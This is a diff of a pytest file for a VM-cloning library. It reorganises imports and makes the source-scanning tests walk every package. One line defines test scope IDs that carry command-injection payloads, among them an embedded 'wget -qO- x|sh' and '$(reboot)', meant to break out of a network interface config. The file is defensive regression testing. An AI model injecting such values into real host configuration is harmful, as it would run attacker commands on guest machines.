@@ -21,10 +21,22 @@ import pytest
 from ansible.module_utils import testing
 from ansible_collections.maglica.cloud.plugins.modules import maglica_vm_clone
 
-from maglica import cli, cloud, config, customize, messages, vm
+from maglica.controller import cli
+from maglica.controller import cloud
+from maglica.cluster import config
+from maglica.host import customize
+from maglica.protocol import messages
+from maglica.controller import vm
 from maglica.errors import ConfigError, MaglicaError, MessageError
+from maglica.host import guest_network
+from maglica.host import guest
 
-LIBRARY = os.path.join(os.path.dirname(messages.__file__))
+LIBRARY = os.path.dirname(os.path.dirname(messages.__file__))
+
+
+def library_files():
+    """Paths of the library's modules, relative to it, in every package."""
+    return sorted(os.path.relpath(os.path.join(d, f), LIBRARY) for d, _dirs, files in os.walk(LIBRARY) for f in files if f.endswith('.py'))
 JOB_ID = '0123456789abcdef0123456789abcdef'
 # The issue's own payloads: a scope id can hold anything but `%` and `/`.
 SCOPE_IDS = ['fd00::1%x\n up touch pwned', 'fd00::1%x\n up wget -qO- x|sh', 'fd00::1%$(reboot)', 'fe80::1%eth0']
@@ -60,7 +72,7 @@ def test_addresses_are_written_back_re_serialised():
     for key in ('address', 'gateway'):
         assert network[key] == str(ipaddress.ip_address(network[key]))
     assert network['dns'] == [str(ipaddress.ip_address(server)) for server in network['dns']]
-    interfaces = customize.debian_interfaces('', customize.GuestSettings('web1', network), 'eth0')
+    interfaces = guest_network.debian_interfaces('', guest.GuestSettings('web1', network), 'eth0')
     assert '    address 192.0.2.10/26\n    gateway 192.0.2.1\n    dns-nameservers 192.0.2.53 198.51.100.53\n' in interfaces
 
 
@@ -145,12 +157,11 @@ def test_trailing_newline_is_refused_in_volume_and_job_id_arguments():
 
 def _patterns():
     """(module file, name, compiled pattern) of every module-level *_RE in the library."""
-    for entry in sorted(os.listdir(LIBRARY)):
-        if entry.endswith('.py'):
-            tree = ast.parse(open(os.path.join(LIBRARY, entry)).read())
-            for node in tree.body:
-                if isinstance(node, ast.Assign) and any(isinstance(t, ast.Name) and t.id.endswith('_RE') for t in node.targets):
-                    yield entry, node.targets[0].id
+    for entry in library_files():
+        tree = ast.parse(open(os.path.join(LIBRARY, entry)).read())
+        for node in tree.body:
+            if isinstance(node, ast.Assign) and any(isinstance(t, ast.Name) and t.id.endswith('_RE') for t in node.targets):
+                yield entry, node.targets[0].id
 
 
 def test_no_library_pattern_is_matched_with_match_or_search():
@@ -158,10 +169,9 @@ def test_no_library_pattern_is_matched_with_match_or_search():
     names = set(name for _entry, name in _patterns())
     assert {'NAME_RE', 'PASSWORD_HASH_RE', 'ONE_LINE_RE', 'DOMAIN_RE', 'HOST_NAME_RE', 'DISK_NAME_RE'} <= names
     offenders = []
-    for entry in sorted(os.listdir(LIBRARY)):
-        if entry.endswith('.py'):
-            source = open(os.path.join(LIBRARY, entry)).read()
-            offenders += ['%s: %s.%s' % ((entry,) + found) for found in re.findall(r'\b(\w+_RE|self\.pattern)\.(match|search)\(', source)]
+    for entry in library_files():
+        source = open(os.path.join(LIBRARY, entry)).read()
+        offenders += ['%s: %s.%s' % ((entry,) + found) for found in re.findall(r'\b(\w+_RE|self\.pattern)\.(match|search)\(', source)]
     assert offenders == []
     # And the pattern that Field.check applies is applied whole.
     assert not messages.NAME.pattern.fullmatch('web1\n')
